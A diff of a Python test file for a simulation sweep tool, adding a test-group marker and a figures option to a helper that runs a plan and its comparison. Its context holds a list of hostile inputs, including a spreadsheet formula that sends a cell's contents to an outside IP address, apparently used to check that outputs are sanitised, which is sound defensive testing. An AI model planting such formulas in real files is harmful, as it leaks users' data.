@@ -36,6 +36,8 @@ from sim.sweep.task import run_task
 from sim.sweep.words import About
 from tests.sweep.conftest import PLAN
 
+pytestmark = pytest.mark.xdist_group("outputs")  # its runs are made once
+
 ROOT = Path(__file__).parents[2]
 HOSTILE = (
     '=HYPERLINK("http://203.0.113.1/?"&A1,"x")',
@@ -79,11 +81,11 @@ def shelf(tmp_path_factory: pytest.TempPathFactory) -> Path:
     return folder
 
 
-def made(plan: Path, out: Path) -> dict[str, Path]:
-    """Folders of a run and of a comparison of a plan."""
+def made(plan: Path, out: Path, *figures: str) -> dict[str, Path]:
+    """Folders of a run and of a comparison of a plan; figures: options of the comparison."""
     short = ["--scale", "0.01", "--runs", "2", "--workers", "1", "--out", str(out)]
     assert main([str(plan), *short]) == 0
-    assert main(["compare", str(plan), str(plan.parent / "lee_junseok.yaml"), *short, "--figures", "svg"]) == 0
+    assert main(["compare", str(plan), str(plan.parent / "lee_junseok.yaml"), *short, *figures]) == 0
     (run,), (compare,) = (list((out / name).iterdir()) for name in ("kim_moonsoo", "compare"))
     return {"run": run, "compare": compare}
 
@@ -91,7 +93,7 @@ def made(plan: Path, out: Path) -> dict[str, Path]:
 @pytest.fixture(scope="module")
 def written(shelf: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
     """What is written of the plan with the attacks."""
-    return made(shelf / "kim_moonsoo.yaml", tmp_path_factory.mktemp("out"))
+    return made(shelf / "kim_moonsoo.yaml", tmp_path_factory.mktemp("out"), "--figures", "svg")
 
 
 @pytest.fixture(scope="module")
